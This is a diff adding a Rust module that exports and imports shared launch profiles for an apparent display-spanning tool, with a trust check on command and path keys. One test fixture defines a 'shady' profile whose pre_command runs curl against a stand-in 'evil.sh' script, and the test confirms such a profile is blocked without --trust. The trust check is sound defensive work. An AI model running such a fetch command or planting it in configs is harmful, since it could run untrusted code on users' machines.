@@ -0,0 +1,340 @@
+use crate::MyError;
+use crate::autotune::detect_span_size;
+use crate::config::{
+    Config, config_set_keys, load_config, load_config_file, prompt_yes_no, write_config,
+};
+use crate::fetch::read_source;
+use crate::i18n::{Msg, tr, trf};
+use crate::output::{info, warn};
+use crate::util::stdio_is_interactive;
+use serde::Deserialize;
+use std::error::Error;
+
+/// Keys tuned for the exporter's monitors and GPU rather than for the game.
+const HARDWARE_KEYS: &[&str] = &[
+    "render_scale",
+    "render_scale_x",
+    "render_scale_y",
+    "allow_supersample",
+    "virtual_width",
+    "virtual_height",
+    "output_width",
+    "output_height",
+    "refresh_rate",
+];
+
+/// Keys a shared profile needs the user's trust for: commands it runs, programs and paths it
+/// uses, and `match` rules that apply it to other launches. A key covers its nested keys.
+const TRUST_KEYS: &[&str] = &[
+    "default_command",
+    "pre_command",
+    "companion_command",
+    "gamescope_args",
+    "picker_command",
+    "picker_terminal",
+    "match",
+    "gamescope_flatpak",
+    "metrics_listen",
+    "recording.output_dir",
+    "wine_prefix",
+];
+
+const HARDWARE_MARKER: &str = " # hardware-dependent";
+
+/// A profile read from a shared snippet, with what the user should know before using it.
+#[derive(Debug)]
+pub(crate) struct SharedProfile {
+    pub(crate) name: String,
+    pub(crate) profile: Config,
+    pub(crate) hardware_keys: Vec<String>,
+    pub(crate) trust_keys: Vec<String>,
+    pub(crate) unknown_keys: Vec<String>,
+}
+
+/// Renders `profile` as a `[profiles.NAME]` snippet that imports on its own, with
+/// hardware-dependent values marked.
+pub(crate) fn export_snippet(
+    name: &str,
+    profile: &Config,
+    span: Option<(i32, i32)>,
+) -> Result<String, Box<dyn Error>> {
+    let mut table = match toml::Value::try_from(profile)? {
+        toml::Value::Table(table) => table,
+        _ => toml::Table::new(),
+    };
+    // Nested profiles and includes only make sense in the exporter's own config.
+    table.remove("profiles");
+    table.remove("include");
+    table.remove("config_version");
+    let wrapped = toml::Value::Table(toml::Table::from_iter([(
+        "profiles".to_string(),
+        toml::Value::Table(toml::Table::from_iter([(
+            name.to_string(),
+            toml::Value::Table(table),
+        )])),
+    )]));
+    let mut doc = toml::to_string(&wrapped)?.parse::<toml_edit::DocumentMut>()?;
+    if let Some(body) = doc["profiles"][name].as_table_mut() {
+        for (key, item) in body.iter_mut() {
+            if HARDWARE_KEYS.contains(&key.get())
+                && let Some(value) = item.as_value_mut()
+            {
+                value.decor_mut().set_suffix(HARDWARE_MARKER);
+            }
+        }
+    }
+    let tuned_for = span
+        .map(|(w, h)| format!("a {}x{} span", w, h))
+        .unwrap_or_else(|| "the exporter's monitors and GPU".to_string());
+    Ok(format!(
+        "# Hyprfinity profile `{}`, shared with `hyprfinity profile export`.\n\
+         # Add it to your config with `hyprfinity profile import <this file or its URL>`.\n\
+         # Values marked hardware-dependent were tuned for {}; check them on yours.\n{}",
+        name, tuned_for, doc
+    ))
+}
+
+/// Reads every `[profiles.NAME]` table from a snippet, checking each as a config.
+pub(crate) fn parse_snippet(contents: &str) -> Result<Vec<SharedProfile>, Box<dyn Error>> {
+    let mut table: toml::Table = toml::from_str(contents)
+        .map_err(|e| MyError(format!("Failed to parse profile snippet: {}", e)))?;
+    let profiles = match table.remove("profiles") {
+        Some(toml::Value::Table(profiles)) if !profiles.is_empty() => profiles,
+        _ => return Err(MyError("No [profiles.NAME] table in the snippet.".to_string()).into()),
+    };
+    profiles
+        .into_iter()
+        .map(|(name, value)| {
+            let toml::Value::Table(mut body) = value else {
+                return Err(MyError(format!("`profiles.{}` must be a table.", name)).into());
+            };
+            body.remove("profiles");
+            body.remove("include");
+            let profile = Config::deserialize(toml::Value::Table(body.clone()))
+                .map_err(|e| MyError(format!("Invalid profile `{}`: {}", name, e)))?;
+            let known = match toml::Value::try_from(&profile)? {
+                toml::Value::Table(known) => known,
+                _ => toml::Table::new(),
+            };
+            let keys_in = |list: &[&str]| {
+                body.keys()
+                    .filter(|key| list.contains(&key.as_str()))
+                    .cloned()
+                    .collect::<Vec<_>>()
+            };
+            let set = config_set_keys(&profile)?;
+            let trust_keys = TRUST_KEYS
+                .iter()
+                .filter(|key| {
+                    set.iter().any(|set| {
+                        set.strip_prefix(**key)
+                            .is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
+                    })
+                })
+                .map(|key| key.to_string())
+                .collect();
+            Ok(SharedProfile {
+                hardware_keys: keys_in(HARDWARE_KEYS),
+                trust_keys,
+                unknown_keys: body
+                    .keys()
+                    .filter(|key| !known.contains_key(*key))
+                    .cloned()
+                    .collect(),
+                name,
+                profile,
+            })
+        })
+        .collect()
+}
+
+pub(crate) fn export_profile(
+    config_path: &Option<String>,
+    name: &str,
+    output: Option<&str>,
+) -> Result<(), Box<dyn Error>> {
+    let config = load_config(config_path)?;
+    let profile = config
+        .profiles
+        .as_ref()
+        .and_then(|profiles| profiles.get(name))
+        .ok_or_else(|| MyError(format!("Unknown profile `{}`.", name)))?;
+    let snippet = export_snippet(name, profile, detect_span_size())?;
+    match output {
+        Some(path) if path != "-" => {
+            std::fs::write(path, snippet)?;
+            info(&trf(Msg::WroteFile, &[&path]));
+        }
+        _ => print!("{}", snippet),
+    }
+    Ok(())
+}
+
+/// Adds `profiles` to the main config file (included files are left as they are), refusing to
+/// replace an existing one unless `force`.
+pub(crate) fn add_profiles(
+    config_path: &Option<String>,
+    profiles: Vec<(String, Config)>,
+    force: bool,
+) -> Result<(), Box<dyn Error>> {
+    let mut config = load_config_file(config_path)?;
+    let existing = config.profiles.get_or_insert_default();
+    if !force
+        && let Some((name, _)) = profiles
+            .iter()
+            .find(|(name, _)| existing.contains_key(name))
+    {
+        return Err(MyError(format!(
+            "Profile `{}` already exists; pass --force to replace it or --name to add it under another name.",
+            name
+        ))
+        .into());
+    }
+    existing.extend(profiles);
+    write_config(config_path, &config)
+}
+
+pub(crate) fn import_profiles(
+    config_path: &Option<String>,
+    source: &str,
+    rename: Option<&str>,
+    force: bool,
+    trust: bool,
+) -> Result<(), Box<dyn Error>> {
+    let mut shared = parse_snippet(&read_source(source)?)?;
+    if let Some(name) = rename {
+        if shared.len() != 1 {
+            return Err(MyError(format!(
+                "--name needs a snippet with one profile; {} has {}.",
+                source,
+                shared.len()
+            ))
+            .into());
+        }
+        shared[0].name = name.to_string();
+    }
+    // A snippet read from stdin leaves nothing to answer the prompt with.
+    let can_prompt = source != "-" && stdio_is_interactive();
+    import_shared(config_path, shared, force, trust, || {
+        if can_prompt {
+            prompt_yes_no(tr(Msg::ImportTrustPrompt), false)
+        } else {
+            Ok(false)
+        }
+    })
+}
+
+/// Writes `shared` into the config once the user trusts the keys that need it: `trust`, or
+/// `confirm` answering yes after they are listed.
+fn import_shared(
+    config_path: &Option<String>,
+    shared: Vec<SharedProfile>,
+    force: bool,
+    trust: bool,
+    confirm: impl FnOnce() -> Result<bool, Box<dyn Error>>,
+) -> Result<(), Box<dyn Error>> {
+    let mut needs_trust = false;
+    for profile in shared.iter().filter(|p| !p.trust_keys.is_empty()) {
+        warn(&trf(
+            Msg::ReviewProfileCommands,
+            &[&profile.name, &profile.trust_keys.join(", ")],
+        ));
+        needs_trust = true;
+    }
+    if needs_trust && !trust && !confirm()? {
+        return Err(MyError(
+            "Not importing: review the keys above, then pass --trust to import anyway.".to_string(),
+        )
+        .into());
+    }
+    add_profiles(
+        config_path,
+        shared
+            .iter()
+            .map(|s| (s.name.clone(), s.profile.clone()))
+            .collect(),
+        force,
+    )?;
+    for profile in shared {
+        info(&trf(Msg::ImportedProfile, &[&profile.name]));
+        if !profile.unknown_keys.is_empty() {
+            warn(&trf(
+                Msg::IgnoredUnknownKeys,
+                &[&profile.unknown_keys.join(", ")],
+            ));
+        }
+        if !profile.hardware_keys.is_empty() {
+            warn(&trf(
+                Msg::CheckHardwareKeys,
+                &[&profile.hardware_keys.join(", ")],
+            ));
+        }
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn exported_snippet_marks_hardware_values_and_imports_back() {
+        let profile = Config {
+            render_scale: Some(0.75),
+            output_width: Some(5760),
+            borderless: Some(true),
+            default_command: Some(vec!["steam".to_string(), "-applaunch".to_string()]),
+            ..Config::default()
+        };
+        let snippet = export_snippet("witcher", &profile, Some((5760, 1080))).unwrap();
+        assert!(snippet.contains("tuned for a 5760x1080 span"));
+        assert!(snippet.contains("[profiles.witcher]"));
+        assert!(snippet.contains("render_scale = 0.75 # hardware-dependent\n"));
+        assert!(snippet.contains("borderless = true\n"));
+
+        let shared = parse_snippet(&format!("{}future_key = 1\n", snippet)).unwrap();
+        assert_eq!(shared.len(), 1);
+        assert_eq!(shared[0].name, "witcher");
+        assert_eq!(shared[0].profile.render_scale, Some(0.75));
+        assert_eq!(shared[0].profile.borderless, Some(true));
+        assert_eq!(shared[0].hardware_keys, ["output_width", "render_scale"]);
+        assert_eq!(shared[0].trust_keys, ["default_command"]);
+        assert_eq!(shared[0].unknown_keys, ["future_key"]);
+
+        assert!(parse_snippet("render_scale = 0.5\n").is_err());
+        assert!(parse_snippet("[profiles.bad]\nrender_scale = \"big\"\n").is_err());
+    }
+
+    #[test]
+    fn profiles_needing_trust_are_not_written_without_it() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("config.toml");
+        std::fs::write(&path, "render_scale = 1.0\n").unwrap();
+        let config_path = Some(path.to_string_lossy().to_string());
+        let snippet = concat!(
+            "[profiles.shady]\npre_command = [\"curl\", \"evil.sh\"]\n",
+            "[profiles.shady.match]\nexe = [\"witcher3.exe\"]\n",
+            "[profiles.shady.recording]\noutput_dir = \"/tmp\"\n",
+        );
+        let shared = parse_snippet(snippet).unwrap();
+        assert_eq!(
+            shared[0].trust_keys,
+            ["pre_command", "match", "recording.output_dir"]
+        );
+
+        let declined = import_shared(&config_path, shared, false, false, || Ok(false));
+        assert!(declined.unwrap_err().to_string().contains("--trust"));
+        assert_eq!(
+            std::fs::read_to_string(&path).unwrap(),
+            "render_scale = 1.0\n"
+        );
+
+        let shared = parse_snippet(snippet).unwrap();
+        import_shared(&config_path, shared, false, true, || unreachable!()).unwrap();
+        assert!(
+            std::fs::read_to_string(&path)
+                .unwrap()
+                .contains("[profiles.shady]")
+        );
+    }
+}